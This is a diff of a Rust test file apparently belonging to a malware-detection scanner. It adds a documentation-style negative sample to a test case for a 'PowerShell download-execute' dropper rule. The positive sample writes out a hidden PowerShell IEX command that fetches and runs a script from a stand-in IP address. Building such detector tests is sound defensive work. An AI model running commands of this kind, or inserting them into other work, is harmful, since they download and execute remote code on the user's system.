@@ -108,7 +108,8 @@ fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
         (
             "droppers.Dropper_PowerShell_DownloadExecute",
             b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\n".to_vec(),
-            b"$data = (New-Object Net.WebClient).DownloadString('https://example.org/data.json') | ConvertFrom-Json\n".to_vec(),
+            // Documentation quoting an installer's one-liner (Node.js's BUILDING.md does).
+            b"Run from an elevated PowerShell:\n\n```powershell\niex ((New-Object System.Net.WebClient).DownloadString('https://example.org/bootstrapper.ps1'))\n```\n".to_vec(),
         ),
         (
             "droppers.Dropper_Certutil_Download",
